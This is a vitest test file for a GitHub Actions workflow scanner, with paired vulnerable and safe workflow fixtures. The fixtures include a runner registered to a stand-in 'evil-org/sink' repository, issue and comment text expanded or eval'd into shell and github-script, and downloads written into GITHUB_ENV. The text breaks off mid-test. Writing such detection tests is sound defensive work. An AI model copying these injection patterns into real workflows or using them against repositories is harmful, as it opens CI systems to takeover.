import { describe, expect, it } from 'vitest';
import { lowerMovedUnpinnedRefs, lowerOwnOrganization } from '../../../src/ecosystems/github-actions/action-ref-rules.js';
import { extractWorkflow } from '../../../src/ecosystems/github-actions/extract.js';
import { dropOwnHostSends } from '../../../src/ecosystems/github-actions/secret-rules.js';
import { refVersionMismatchFindings } from '../../../src/ecosystems/github-actions/ref-version-rules.js';
import { isRoutineWorkflowChange } from '../../../src/ecosystems/github-actions/routine-change.js';
import { makeSnapshot } from '../../support/snapshot-factory.js';

/**
 * One positive and one negative case per workflow finding id (docs/findings.md), on workflow shapes
 * modeled on public incident write-ups and on ordinary projects' CI.
 */

const SHA = 'b4ffde65f46336ab88eb53be808477a3936bae11';

function found(content: string, path = '.github/workflows/x.yml'): [string, string, number | null][] {
  return (extractWorkflow(content, path).findings ?? []).map((f) => [f.id, f.severity, f.line]);
}

function ids(content: string, path?: string): string[] {
  return found(content, path).map(([id, severity]) => `${id}:${severity}`);
}

function only(content: string, id: string): [string, string, number | null][] {
  return found(content).filter(([i]) => i === id);
}

const job = (steps: string, extra = '') => `jobs:\n  main:\n    runs-on: ubuntu-latest\n${extra}    steps:\n${steps}`;

describe('github-persistence in a workflow (a runner registered by a run: step)', () => {
  it('reports a job that configures a runner for another repository and starts it (high), or only configures one (medium)', () => {
    const worm = `on: [push, pull_request]\n${job(`      - run: |
          mkdir -p /tmp/.r && cd /tmp/.r
          ./config.sh --unattended --url https://github.com/evil-org/sink --token AAAAQWERTY --name ci-$RANDOM
          nohup ./run.sh >/dev/null 2>&1 &
`)}`;
    expect(only(worm, 'github-persistence')).toEqual([['github-persistence', 'high', 8]]);
    const jit = `on: push\n${job('      - run: cd /opt/runner && ./run.sh --jitconfig "$JIT" &\n        env:\n          JIT: ${{ secrets.RUNNER_JIT }}\n')}`;
    expect(only(jit, 'github-persistence')).toEqual([['github-persistence', 'high', 6]]);
    const continued = `on: push\n${job(`      - run: |
          ./config.sh \\
            --url https://github.com/someone/sink \\
            --token "$T" --unattended
`)}`;
    expect(only(continued, 'github-persistence')).toEqual([['github-persistence', 'medium', 7]]);
  });

  it('leaves another tool\'s config.sh and run.sh, and keeps a self-hosted fleet\'s own re-registration medium', () => {
    const configure = `on: push\n${job('      - run: ./config.sh --prefix=/usr && make && ./run.sh tests\n')}`;
    expect(only(configure, 'github-persistence')).toEqual([]);
    const fleet = `on:\n  schedule:\n    - cron: '0 3 * * 1'\njobs:\n  rotate:\n    runs-on: [self-hosted, infra]\n    steps:\n      - run: |\n          ./config.sh --url https://github.com/acme --token "$ADD" --unattended --replace\n          sudo ./svc.sh start\n`;
    expect(only(fleet, 'github-persistence')).toEqual([['github-persistence', 'medium', 9]]);
  });
});

describe('gha-template-injection', () => {
  it('reports outsider text expanded into run: or github-script, through ||, format() and toJSON()', () => {
    const workflow = `on:
  issues:
    types: [opened]
${job(`      - run: echo "\${{ github.event.issue.title || 'untitled' }}"
      - run: echo '\${{ toJSON(github.event) }}' > event.json
      - uses: actions/github-script@${SHA}
        with:
          script: |
            const body = \`\${{ format('{0}', github.event.issue.body) }}\`
`)}`;
    expect(only(workflow, 'gha-template-injection')).toEqual([
      ['gha-template-injection', 'critical', 8],
      ['gha-template-injection', 'critical', 9],
      ['gha-template-injection', 'critical', 13],
    ]);
  });

  it('grades by trigger: high on pull_request, medium on push, low for workflow_dispatch inputs', () => {
    expect(only(`on: pull_request\n${job('      - run: git log -1 --format=%s "${{ github.head_ref }}"\n')}`, 'gha-template-injection')).toEqual([['gha-template-injection', 'high', 6]]);
    expect(only(`on: push\n${job('      - run: echo "${{ github.event.head_commit.message }}"\n')}`, 'gha-template-injection')).toEqual([['gha-template-injection', 'medium', 6]]);
    expect(only(`on:\n  workflow_dispatch:\n    inputs:\n      tag: {type: string}\n${job('      - run: git tag ${{ inputs.tag }}\n')}`, 'gha-template-injection')).toEqual([['gha-template-injection', 'low', 9]]);
  });

  it('does not report the env: indirection, numbers, SHAs, booleans or values outside scripts', () => {
    const workflow = `on: pull_request_target
permissions: {}
${job(`      - run: echo "$TITLE" | grep -q '^feat'
        env:
          TITLE: \${{ github.event.pull_request.title }}
      - run: echo "PR \${{ github.event.pull_request.number }} at \${{ github.event.pull_request.head.sha }}"
      - run: echo "\${{ contains(github.event.pull_request.title, '[skip]') }}"
      - uses: actions/labeler@${SHA}
        with:
          configuration-path: \${{ github.event.pull_request.title }}
`)}`;
    expect(only(workflow, 'gha-template-injection')).toEqual([]);
  });

  it('reports ${{ env.NAME }} expanded into a script when an env: of the workflow, job or step binds NAME to outsider text', () => {
    // workflow_run's head branch bound in the job's env:, then pasted back with ${{ env.BRANCH }}.
    const jobEnv = `on:\n  workflow_run:\n    workflows: [CI]\n    types: [completed]\n${job('      - run: echo "Report for ${{ env.BRANCH }}" > report.txt\n', '    env:\n      BRANCH: ${{ github.event.workflow_run.head_branch }}\n')}`;
    expect(only(jobEnv, 'gha-template-injection')).toEqual([['gha-template-injection', 'critical', 11]]);
    // The step's own env:, on pull_request: high, as the context itself would be.
    const stepEnv = `on: pull_request\n${job('      - env:\n          TITLE: ${{ github.event.pull_request.title }}\n        run: test "${{ env.TITLE }}" != wip\n')}`;
    expect(only(stepEnv, 'gha-template-injection')).toEqual([['gha-template-injection', 'high', 8]]);
    // The workflow's env:, into github-script.
    const script = `on: pull_request_target\nenv:\n  HEAD: \${{ github.head_ref }}\n${job(`      - uses: actions/github-script@${SHA}\n        with:\n          script: core.info('\${{ env.HEAD }}')\n`)}`;
    expect(only(script, 'gha-template-injection')).toEqual([['gha-template-injection', 'critical', 10]]);
  });

  it('is quiet on ${{ env.NAME }} bound to a SHA, a number, a literal, a maintainer input, and on the same env: read as "$NAME"', () => {
    const workflow = `on:\n  pull_request_target:\n  workflow_dispatch:\n    inputs:\n      version: {type: string}\nenv:\n  SHA: \${{ github.event.pull_request.head.sha }}\n  NUM: \${{ github.event.number }}\n  NODE: 20\n  VERSION: \${{ inputs.version }}\n${job(`      - run: echo "\${{ env.SHA }} \${{ env.NUM }} \${{ env.NODE }} \${{ env.VERSION }} \${{ env.MISSING }}"\n      - run: echo "$TITLE"\n        env:\n          TITLE: \${{ github.event.pull_request.title }}\n`)}`;
    expect(only(workflow, 'gha-template-injection')).toEqual([]);
  });

  it('reports a step output filled with outsider text (gh, jq of the event, env:, github-script) and pasted into a later script', () => {
    // gh reads the PR title into an output; a later run: pastes it, on pull_request_target: critical.
    const gh = `on: pull_request_target\n${job(`      - id: meta
        env:
          GH_TOKEN: \${{ github.token }}
        run: echo "title=$(gh pr view \${{ github.event.pull_request.number }} --json title -q .title)" >> "$GITHUB_OUTPUT"
      - run: echo "Title \${{ steps.meta.outputs.title }}"
`)}`;
    expect(only(gh, 'gha-template-injection')).toEqual([['gha-template-injection', 'critical', 10]]);
    // jq of the event payload into a shell variable, then the output; on workflow_run.
    const jq = `on:\n  workflow_run:\n    workflows: [CI]\n    types: [completed]\n${job(`      - id: ev
        run: |
          BRANCH=$(jq -r .workflow_run.head_branch "$GITHUB_EVENT_PATH")
          echo "branch=$BRANCH" >> "$GITHUB_OUTPUT"
      - run: git push origin \${{ steps.ev.outputs.branch }}
`)}`;
    expect(only(jq, 'gha-template-injection')).toEqual([['gha-template-injection', 'critical', 13]]);
    // The title passed safely through env: into the output, then pasted back; on pull_request: high.
    const env = `on: pull_request\n${job(`      - id: meta
        env:
          TITLE: \${{ github.event.pull_request.title }}
        run: echo "title=$TITLE" >> "$GITHUB_OUTPUT"
      - run: echo "\${{ steps.meta.outputs.title }}"
`)}`;
    expect(only(env, 'gha-template-injection')).toEqual([['gha-template-injection', 'high', 10]]);
    // github-script's setOutput of the comment body, through a job output, into another job's github-script.
    const script = `on: issue_comment\njobs:
  parse:
    runs-on: ubuntu-latest
    outputs:
      command: \${{ steps.p.outputs.command }}
    steps:
      - id: p
        uses: actions/github-script@${SHA}
        with:
          script: |
            const body = context.payload.comment.body;
            core.setOutput('command', body);
  run:
    needs: parse
    runs-on: ubuntu-latest
    steps:
      - uses: actions/github-script@${SHA}
        with:
          script: console.log(\`\${{ needs.parse.outputs.command }}\`)
`;
    expect(only(script, 'gha-template-injection')).toEqual([['gha-template-injection', 'critical', 20]]);
    // The output passed through env: (the fix) and then evaluated: the same injection.
    const evaluated = `on: issue_comment\n${job(`      - id: cmd
        env:
          GH_TOKEN: \${{ github.token }}
        run: echo "line=$(gh api "repos/$GITHUB_REPOSITORY/issues/comments/\${{ github.event.comment.id }}" --jq .body)" >> "$GITHUB_OUTPUT"
      - env:
          LINE: \${{ steps.cmd.outputs.line }}
        run: eval "$LINE"
`)}`;
    expect(only(evaluated, 'gha-template-injection')).toEqual([['gha-template-injection', 'critical', 12]]);
  });

  it('is quiet on step outputs holding a SHA, a number, a boolean or a computed value, and on tainted outputs read through env: or with:', () => {
    const workflow = `on: pull_request_target\n${job(`      - id: ev
        env:
          GH_TOKEN: \${{ github.token }}
          TITLE: \${{ github.event.pull_request.title }}
        run: |
          echo "sha=$(git rev-parse HEAD)" >> "$GITHUB_OUTPUT"
          echo "num=\${{ github.event.pull_request.number }}" >> "$GITHUB_OUTPUT"
          echo "head=$(jq -r .pull_request.head.sha "$GITHUB_EVENT_PATH")" >> "$GITHUB_OUTPUT"
          echo "draft=$(gh pr view \${{ github.event.number }} --json isDraft -q .isDraft)" >> "$GITHUB_OUTPUT"
          echo "wip=\${{ contains(github.event.pull_request.title, 'WIP') }}" >> "$GITHUB_OUTPUT"
          echo "title=$TITLE" >> "$GITHUB_OUTPUT"
          SLUG=$(gh pr view \${{ github.event.number }} --json title -q .title | tr '[:upper:]' '[:lower:]' | sed -E 's/[^a-z0-9]+/-/g')
          echo "slug=$SLUG" >> "$GITHUB_OUTPUT"
          echo "kind=$(echo "$TITLE" | grep -oE '^(feat|fix|docs)')" >> "$GITHUB_OUTPUT"
      - run: git checkout -b "pr/\${{ steps.ev.outputs.slug }}-\${{ steps.ev.outputs.kind }}"
      - run: echo "\${{ steps.ev.outputs.sha }} \${{ steps.ev.outputs.num }} \${{ steps.ev.outputs.head }} \${{ steps.ev.outputs.draft }} \${{ steps.ev.outputs.wip }}"
      - env:
          T: \${{ steps.ev.outputs.title }}
        run: echo "$T"
      - uses: actions/labeler@${SHA}
        with:
          configuration-path: \${{ steps.ev.outputs.title }}
`)}`;
    expect(only(workflow, 'gha-template-injection')).toEqual([]);
  });

  it('follows outsider text into a step output through a file an earlier step wrote, a while-read or for loop, and a multi-line output block', () => {
    // An earlier step saves the PR title (safely, through env:) to a file; the next step reads the file into an output.
    const file = `on: pull_request_target\n${job(`      - env:
          TITLE: \${{ github.event.pull_request.title }}
        run: printf '%s' "$TITLE" > pr_title.txt
      - id: meta
        run: echo "title=$(cat pr_title.txt)" >> "$GITHUB_OUTPUT"
      - run: ./scripts/changelog.sh "\${{ steps.meta.outputs.title }}"
`)}`;
    expect(only(file, 'gha-template-injection')).toEqual([['gha-template-injection', 'critical', 11]]);
    // The same through a file under the runner's temporary folder, named with a variable.
    const temp = file.replace('> pr_title.txt', '> "${RUNNER_TEMP}/pr_title.txt"').replace('$(cat pr_title.txt)', '$(cat "$RUNNER_TEMP/pr_title.txt")');
    expect(only(temp, 'gha-template-injection')).toEqual([['gha-template-injection', 'critical', 11]]);
    // gh saves the branch name to a file; `read` takes it into a variable written to the output.
    const read = `on: issue_comment\n${job(`      - id: pr
        env:
          GH_TOKEN: \${{ github.token }}
        run: |
          gh pr view \${{ github.event.issue.number }} --json headRefName -q .headRefName > branch.txt
          read -r BRANCH < ./branch.txt
          echo "branch=$BRANCH" >> "$GITHUB_OUTPUT"
      - run: git push origin "HEAD:\${{ steps.pr.outputs.branch }}"
`)}`;
    expect(only(read, 'gha-template-injection')).toEqual([['gha-template-injection', 'critical', 13]]);
    // A while-read loop over the comment body (here-string) and over a file of it, writing each line to an output.
    const loop = `on: issue_comment\n${job(`      - id: cmd
        env:
          BODY: \${{ github.event.comment.body }}
        run: |
          while IFS= read -r line; do
            case "$line" in /run*) echo "command=\${line#/run }" >> "$GITHUB_OUTPUT" ;; esac
          done <<< "$BODY"
      - id: ev
        run: |
          jq -r .comment.body "$GITHUB_EVENT_PATH" > body.txt
          while read -r word rest; do
            echo "arg=$rest" >> "$GITHUB_OUTPUT"
          done < body.txt
      - run: \${{ steps.cmd.outputs.command }} \${{ steps.ev.outputs.arg }}
`)}`;
    expect(only(loop, 'gha-template-injection')).toEqual([['gha-template-injection', 'critical', 19]]);
    // A for loop over gh's branch names, and a grouped multi-line output block of the title.
    const block = `on: pull_request_target\n${job(`      - id: x
        env:
          GH_TOKEN: \${{ github.token }}
          TITLE: \${{ github.event.pull_request.title }}
        run: |
          for b in $(gh pr list --json headRefName -q '.[].headRefName'); do
            echo "branch=$b" >> "$GITHUB_OUTPUT"
          done
          {
            echo "notes<<EOF"
            echo "$TITLE"
            echo "EOF"
          } >> "$GITHUB_OUTPUT"
      - run: |
          git fetch origin \${{ steps.x.outputs.branch }}
          echo "\${{ steps.x.outputs.notes }}" >> notes.md
`)}`;
    expect(only(block, 'gha-template-injection')).toEqual([
      ['gha-template-injection', 'critical', 20],
      ['gha-template-injection', 'critical', 21],
    ]);
  });

  it('is quiet on outputs read from files and loops that hold versions, tags, SHAs or text cut down to plain characters', () => {
    const workflow = `on: pull_request_target\n${job(`      - env:
          TITLE: \${{ github.event.pull_request.title }}
        run: |
          printf '%s' "$TITLE" > pr_title.txt
          printf '%s' "$TITLE" | tr -cd 'a-z0-9-' > slug.txt
          jq -r .version package.json > version.txt
          printf '%s' "$TITLE" > title.txt
          git describe --tags --abbrev=0 > title.txt
      - id: v
        env:
          TITLE: \${{ github.event.pull_request.title }}
        run: |
          echo "version=$(cat version.txt)" >> "$GITHUB_OUTPUT"
          echo "slug=$(cat slug.txt)" >> "$GITHUB_OUTPUT"
          echo "tag=$(cat title.txt)" >> "$GITHUB_OUTPUT"
          echo "size=$(wc -c < pr_title.txt)" >> "$GITHUB_OUTPUT"
          git tag --list 'v*' > tags.txt
          while read -r t; do echo "latest=$t" >> "$GITHUB_OUTPUT"; done < tags.txt
          for f in $(git diff --name-only HEAD~1 -- '*.md'); do echo "doc=$f" >> "$GITHUB_OUTPUT"; done
          while read -r w; do echo "word=$w" >> "$GITHUB_OUTPUT"; done < <(echo "$TITLE" | grep -oE '^(feat|fix)')
          {
            echo "head<<EOF"
            git rev-parse HEAD
            echo "EOF"
          } >> "$GITHUB_OUTPUT"
          echo "safe=$(cat pr_title.txt)" >> "$GITHUB_STEP_SUMMARY"
      - run: echo "\${{ steps.v.outputs.version }} \${{ steps.v.outputs.slug }} \${{ steps.v.outputs.tag }} \${{ steps.v.outputs.size }} \${{ steps.v.outputs.latest }} \${{ steps.v.outputs.doc }} \${{ steps.v.outputs.word }} \${{ steps.v.outputs.head }}"
`)}`;
    expect(only(workflow, 'gha-template-injection')).toEqual([]);
  });

  it('reports outsider text passed through env: and then run as code (eval, sh -c, a variable cut from it, github-script eval)', () => {
    const workflow = `on:
  issue_comment:
    types: [created]
permissions: {}
${job(`      - env:
          BODY: \${{ github.event.comment.body }}
        run: |
          CMD="\${BODY#/run }"
          eval "$CMD"
      - run: bash -c "$TITLE"
        env:
          TITLE: \${{ github.event.issue.title }}
      - uses: actions/github-script@${SHA}
        env:
          NOTE: \${{ github.event.comment.body }}
        with:
          script: |
            eval(process.env.NOTE)
`)}`;
    expect(only(workflow, 'gha-template-injection')).toEqual([
      ['gha-template-injection', 'critical', 13],
      ['gha-template-injection', 'critical', 14],
      ['gha-template-injection', 'critical', 22],
    ]);
    expect(only(`on: pull_request\n${job('      - run: echo "$TITLE" | sh\n        env:\n          TITLE: ${{ github.event.pull_request.title }}\n')}`, 'gha-template-injection')).toEqual([['gha-template-injection', 'high', 6]]);
  });

  it('does not report an env: variable read as data: echoed, passed to a script or gh, tested, or handed to sh -c as an argument', () => {
    const workflow = `on: issue_comment
permissions: {}
${job(`      - env:
          BODY: \${{ github.event.comment.body }}
        run: |
          echo "Comment: $BODY"
          CMD="\${BODY#/run }"
          case "$CMD" in deploy|test) ./scripts/"$CMD".sh ;; esac
          python scripts/triage.py "$BODY"
          gh issue comment 1 --body "$BODY"
          sh -c 'printf "%s\\n" "$1"' _ "$BODY"
          eval "$(ssh-agent -s)"
      - uses: actions/github-script@${SHA}
        env:
          NOTE: \${{ github.event.comment.body }}
        with:
          script: |
            if (process.env.NOTE.startsWith('/deploy')) core.info(process.env.NOTE)
`)}`;
    expect(only(workflow, 'gha-template-injection')).toEqual([]);
  });

  it('reports github-script that reads outsider text from context.payload and runs it in a shell or as code', () => {
    const script = `            const { execSync } = require('child_process');
            const pr = context.payload.pull_request;
            execSync(\`git fetch origin \${pr.head.ref}\`);
            const { title } = pr;
            const out = require('child_process').execSync(\`echo \${title} | tee title.txt\`, { encoding: 'utf8' });
            spawn(\`make \${context.payload.pull_request.body}\`, { shell: true });
`;
    const workflow = (on: string) => `on: ${on}
permissions: {}
${job(`      - uses: actions/github-script@${SHA}
        with:
          script: |
${script}`)}`;
    expect(only(workflow('pull_request_target'), 'gha-template-injection')).toEqual([
      ['gha-template-injection', 'high', 12],
      ['gha-template-injection', 'high', 14],
      ['gha-template-injection', 'high', 15],
    ]);
    expect(only(workflow('pull_request'), 'gha-template-injection').map(([, s]) => s)).toEqual(['medium', 'medium', 'medium']);
    expect(only(workflow('push'), 'gha-template-injection').map(([, s]) => s)).toEqual(['low', 'low', 'low']);
    // A comment's text compiled as JavaScript, directly or through a regex capture.
    const comment = `on: issue_comment
permissions: {}
${job(`      - uses: actions/github-script@${SHA}
        with:
          script: |
            const body = context.payload.comment.body;
            const m = /^\\/run (.+)$/.exec(body);
            if (m) eval(m[1]);
            new Function(context.payload.issue.body)();
`)}`;
    expect(only(comment, 'gha-template-injection')).toEqual([
      ['gha-template-injection', 'high', 12],
      ['gha-template-injection', 'high', 13],
    ]);
    // The text passed through env: (the fix for \${{ }}) and then built into a command.
    const viaEnv = `on: pull_request_target
permissions: {}
${job(`      - uses: actions/github-script@${SHA}
        env:
          TITLE: \${{ github.event.pull_request.title }}
        with:
          script: |
            const cp = require('child_process');
            cp.execSync(\`git log --grep "\${process.env.TITLE}"\`);
`)}`;
    expect(only(viaEnv, 'gha-template-injection')).toEqual([['gha-template-injection', 'high', 13]]);
  });

  it('reports github-script that runs outsider text through child_process under another name, or passes it where it can be an option', () => {
    const workflow = `on: pull_request_target
permissions: {}
${job(`      - uses: actions/github-script@${SHA}
        with:
          script: |
            const util = require('util');
            const proc = require('child_process');
            const { execSync: sh, exec } = require('child_process');
            const run = util.promisify(proc.exec);
            const run2 = promisify(require('node:child_process').exec);
            const run3 = util.promisify(exec);
            const title = context.payload.pull_request.title;
            await run(\`git commit -m "\${title}"\`);
            await run2(\`echo \${context.payload.comment.body}\`);
            await run3(\`echo \${title}\`);
            sh(\`echo \${title}\`);
            proc.execSync(\`echo \${title}\`);
`)}`;
    expect(only(workflow, 'gha-template-injection').map(([, s, l]) => `${s}:${l}`)).toEqual(['high:17', 'high:18', 'high:19', 'high:20', 'high:21']);
    const option = `on: issue_comment
permissions: {}
${job(`      - uses: actions/github-script@${SHA}
        with:
          script: |
            const { execFileSync, spawnSync } = require('child_process');
            const body = context.payload.comment.body;
            execFileSync('git', ['fetch', 'origin', body]);
            spawnSync('/usr/bin/tar', ['-xf', 'a.tar', \`\${context.payload.issue.title}\`]);
            await exec.exec('git', ['log', context.payload.issue.title]);
`)}`;
    expect(only(option, 'gha-template-injection').map(([, s, l]) => `${s}:${l}`)).toEqual(['high:12', 'high:13', 'high:14']);
    expect(extractWorkflow(option, '.github/workflows/x.yml').findings?.find((f) => f.id === 'gha-template-injection')?.title).toContain('can be an option of git');
  });

  it('does not report github-script that posts outsider text through the API or passes it without a shell', () => {
    const workflow = `on: pull_request_target
permissions: {}
${job(`      - uses: actions/github-script@${SHA}
        with:
          script: |
            const { execFileSync, execSync, spawn } = require('child_process');
            const pr = context.payload.pull_request;
            const title = pr.title;
            await github.rest.issues.createComment({ ...context.repo, issue_number: pr.number, body: \`Thanks for "\${title}"\` });
            execFileSync('git', ['log', '--grep', title]);
            execFileSync('git', ['commit', '-m', title]);
            execFileSync('git', ['fetch', 'origin', '--', title]);
            execFileSync('gh', ['pr', 'comment', pr.number, '--body', title]);
            execFileSync('git', ['checkout', \`refs/heads/\${title}\`]);
            const backport = \`backport-\${pr.number}-\${title}\`;
            execFileSync('git', ['push', 'origin', backport]);
            spawn('git', ['checkout', pr.head.ref]);
            const util = require('util');
            const run = util.promisify(setTimeout);
            const note = pr.title;
            await run(note);
            const check = /^\\/run (.+)$/.exec(title);
            execSync(\`gh pr checkout \${pr.number} && git log -1 \${pr.head.sha}\`);
            await exec.exec(\`git fetch origin \${pr.head.ref}\`);
            const m = /^\\/deploy (\\w+)$/.exec(context.payload.pull_request.body);
            const branch = pr.head.ref.replace(/[^\\w.\\/-]/g, '');
            execSync(\`git fetch origin \${branch}\`);
            const label = context.payload.pull_request.head.label;
            if (!/^[\\w.:-]+$/.test(label)) throw new Error('unexpected label');
            execSync(\`echo \${label}\`);
`)}`;
    expect(only(workflow, 'gha-template-injection')).toEqual([]);
  });
});

describe('gha-github-env', () => {
  it('reports outsider text written into GITHUB_ENV through an env variable', () => {
    const workflow = `on: pull_request_target
permissions: {}
${job(`      - run: echo "BRANCH=$BRANCH" >> "$GITHUB_ENV"
        env:
          BRANCH: \${{ github.event.pull_request.head.ref }}
`)}`;
    expect(only(workflow, 'gha-github-env')).toEqual([['gha-github-env', 'critical', 7]]);
  });

  it('does not report trusted values written there', () => {
    const workflow = `on: pull_request_target
permissions: {}
${job(`      - run: echo "SHA=$SHA" >> "$GITHUB_ENV"
        env:
          SHA: \${{ github.event.pull_request.head.sha }}
`)}`;
    expect(only(workflow, 'gha-github-env')).toEqual([]);
  });

  const sev = (on: string, steps: string) => only(`on: ${on}\npermissions: {}\n${job(steps)}`, 'gha-github-env').map(([, severity, line]) => `${severity}:${line}`);

  it('reports a server\'s whole answer written into GITHUB_ENV or GITHUB_PATH: piped, substituted, through a variable, a file or a block', () => {
    expect(sev('push', `      - run: curl -fsSL https://ci-config.example.dev/build.env >> "$GITHUB_ENV"\n`)).toEqual(['medium:7']);
    // One variable set to an HTTPS answer (a version file): low, medium on a privileged trigger; over plain HTTP it is a whole answer.
    expect(sev('push', `      - run: echo "EXTRA_OPTS=$(curl -s https://ci-config.example.dev/opts)" >> $GITHUB_ENV\n`)).toEqual(['low:7']);
    expect(sev('push', `      - run: echo "K8S_VERSION=$(curl -sL https://dl.k8s.io/release/stable.txt)" >> "$GITHUB_ENV"\n`)).toEqual(['low:7']);
    expect(sev('pull_request_target', `      - run: echo "K8S_VERSION=$(curl -sL https://dl.k8s.io/release/stable.txt)" >> "$GITHUB_ENV"\n`)).toEqual(['medium:7']);
    expect(sev('push', `      - run: echo "EXTRA_OPTS=$(curl -s http://ci-config.example.dev/opts)" >> $GITHUB_ENV\n`)).toEqual(['medium:7']);
    expect(sev('pull_request_target', `      - run: wget -qO- https://tools.example.dev/paths.txt | tee -a "$GITHUB_PATH"\n`)).toEqual(['high:7']);
    expect(sev('push', `      - run: |\n          CFG=$(curl -sf https://ci-config.example.dev/env)\n          echo "$CFG" >> "$GITHUB_ENV"\n`)).toEqual(['medium:9']);
    expect(sev('push', `      - run: |\n          BODY=$(curl -sf https://ci-config.example.dev/env)\n          CFG="$BODY"\n          echo "$CFG" >> "$GITHUB_ENV"\n`)).toEqual(['medium:10']);
    expect(sev('push', `      - run: curl -sSf -o "$GITHUB_PATH" https://tools.example.dev/paths.txt\n`)).toEqual(['medium:7']);
    expect(sev('push', `      - run: |\n          curl -sf -o ci.env https://ci-config.example.dev/env\n          cat ci.env >> "$GITHUB_ENV"\n`)).toEqual(['medium:9']);
    expect(sev('push', `      - run: |\n          echo "NOTES<<EOF" >> "$GITHUB_ENV"\n          curl -s https://notes.example.dev/latest \\\n            >> "$GITHUB_ENV"\n          echo "EOF" >> "$GITHUB_ENV"\n`)).toEqual(['medium:9']);
    expect(sev('push', `      - run: |\n          {\n            echo "NOTES<<EOF"\n            curl -s https://notes.example.dev/latest\n            echo "EOF"\n          } >> "$GITHUB_ENV"\n`)).toEqual(['medium:12']);
    expect(sev('push', `      - shell: pwsh\n        run: |\n          $cfg = Invoke-RestMethod https://ci-config.example.dev/env\n          Add-Content -Path $env:GITHUB_ENV -Value $cfg\n`)).toEqual(['medium:10']);
  });

  it('does not report one field or line of an answer, a generated delimiter, localhost, or a download saved elsewhere', () => {
    expect(sev('pull_request_target', `      - run: echo "VERSION=$(curl -s https://api.github.com/repos/cli/cli/releases/latest | jq -r .tag_name)" >> "$GITHUB_ENV"\n`)).toEqual([]);
    expect(sev('push', `      - run: echo "V=$(curl -sL https://example.dev/VERSION | head -n1)" >> $GITHUB_ENV\n`)).toEqual([]);
    expect(sev('push', `      - run: echo "TAG=$(curl -s https://example.dev/tags | grep -oE 'v[0-9.]+' | sort -V | tail -1)" >> $GITHUB_ENV\n`)).toEqual([]);
    expect(sev('push', `      - run: |\n          LATEST=$(curl -s https://example.dev/releases.json | jq -r '.[0].version')\n          echo "LATEST=$LATEST" >> "$GITHUB_ENV"\n`)).toEqual([]);
    expect(sev('push', `      - run: |\n          EOF=$(dd if=/dev/urandom bs=15 count=1 status=none | base64)\n          echo "NOTES<<$EOF" >> "$GITHUB_ENV"\n          curl -s https://notes.example.dev/latest >> "$GITHUB_ENV"\n          echo "$EOF" >> "$GITHUB_ENV"\n`)).toEqual([]);
    expect(sev('push', `      - run: echo "READY=$(curl -s http://localhost:8080/health)" >> $GITHUB_ENV\n`)).toEqual([]);
    expect(sev('push', `      - run: curl -fsSLo tool.tgz https://example.dev/tool.tgz && echo "TOOL=$PWD/tool" >> $GITHUB_ENV\n`)).toEqual([]);
    expect(sev('push', `      - run: curl -fsSL https://example.dev/install.sh -o install.sh; echo "$HOME/.tool/bin" >> $GITHUB_PATH\n`)).toEqual([]);
    expect(sev('push', `      - run: echo "HINT=install curl or wget first" >> $GITHUB_ENV\n`)).toEqual([]);
    expect(sev('push', `      - run: |\n          BODY=$(curl -sf https://api.example.dev/releases/latest)\n          TAG=$(echo "$BODY" | jq -r .tag_name)\n          echo "TAG=$TAG" >> "$GITHUB_ENV"\n`)).toEqual([]);
    expect(sev('push', `      - shell: pwsh\n        run: |\n          $rel = Invoke-RestMethod https://api.github.com/repos/cli/cli/releases/latest\n          Add-Content -Path $env:GITHUB_ENV -Value "CLI_VERSION=$($rel.tag_name)"\n`)).toEqual([]);
    expect(sev('push', `      - shell: pwsh\n        run: '"CLI_VERSION=$((Invoke-RestMethod https://api.github.com/repos/cli/cli/releases/latest).tag_name)" | Out-File -FilePath $env:GITHUB_ENV -Append'\n`)).toEqual([]);
  });

  it('reports a shell heredoc that expands a download into GITHUB_ENV, and a downloaded script run with its output written there', () => {
    // `cat <<EOF >> "$GITHUB_ENV"` with a download's whole answer, or a variable set from one, in its body: one finding per block, at its opening.
    expect(sev('pull_request_target', `      - run: |\n          cat <<EOF >> "$GITHUB_ENV"\n          BUILD_MODE=release\n          $(curl -fsSL https://ci-config.example.dev/build.env)\n          EOF\n`)).toEqual(['high:8']);
    expect(sev('push', `      - run: |\n          OPTS=$(curl -s https://ci-config.example.dev/node-opts)\n          cat >> $GITHUB_ENV <<-EOF\n          \tNODE_OPTIONS=$OPTS\n          \tCI_CONFIG=$OPTS\n          \tEOF\n`)).toEqual(['medium:9']);
    expect(sev('push', `      - run: |\n          tee -a "$GITHUB_ENV" << EOF\n          K8S_VERSION=$(curl -sL https://dl.k8s.io/release/stable.txt)\n          EOF\n`)).toEqual(['low:8']);
    // A script saved by a download, run, and what it prints written into GITHUB_ENV or GITHUB_PATH.
    expect(sev('pull_request_target', `      - run: |\n          wget -qO setup-env.sh https://tools.example.dev/setup-env.sh\n          sh ./setup-env.sh | tee -a "$GITHUB_PATH"\n`)).toEqual(['high:9']);
    expect(sev('push', `      - run: |\n          curl -fsSL -o ci/env.sh https://raw.githubusercontent.com/some-org/ci-scripts/main/env.sh\n          chmod +x ci/env.sh\n          ./ci/env.sh >> "$GITHUB_ENV"\n`)).toEqual(['medium:10']);
  });

  it('does not report a heredoc with a quoted delimiter or without a download, nor a local script or one downloaded and never run into the file', () => {
    expect(sev('pull_request_target', `      - run: |\n          cat <<'EOF' >> "$GITHUB_ENV"\n          EXTRA=$(curl -fsSL https://ci-config.example.dev/build.env)\n          EOF\n`)).toEqual([]);
    expect(sev('push', `      - run: |\n          curl -fsSLo tool.tgz https://example.dev/tool.tgz\n          cat <<EOF >> "$GITHUB_ENV"\n          TOOL_HOME=$PWD/tool\n          BUILD_MODE=release\n          EOF\n`)).toEqual([]);
    expect(sev('push', `      - run: |\n          VERSION=$(curl -s https://api.example.dev/releases/latest | jq -r .tag_name)\n          cat <<EOF >> "$GITHUB_ENV"\n          TOOL_VERSION=$VERSION\n          EOF\n`)).toEqual([]);
    expect(sev('push', `      - run: |\n          curl -fsSL https://example.dev/install.sh -o install.sh\n          sh install.sh --prefix "$HOME/.tool"\n          ./scripts/ci-env.sh >> "$GITHUB_ENV"\n          echo "$HOME/.tool/bin" >> "$GITHUB_PATH"\n`)).toEqual([]);
  });

  it('reports a file of the pull request\'s head downloaded and written (or run) into GITHUB_ENV: critical on a privileged trigger', () => {
    const raw = 'https://raw.githubusercontent.com/${{ github.event.pull_request.head.repo.full_name }}/${{ github.event.pull_request.head.sha }}';
    expect(sev('pull_request_target', `      - run: curl -fsSL ${raw}/ci/build.env >> "$GITHUB_ENV"\n`)).toEqual(['critical:7']);
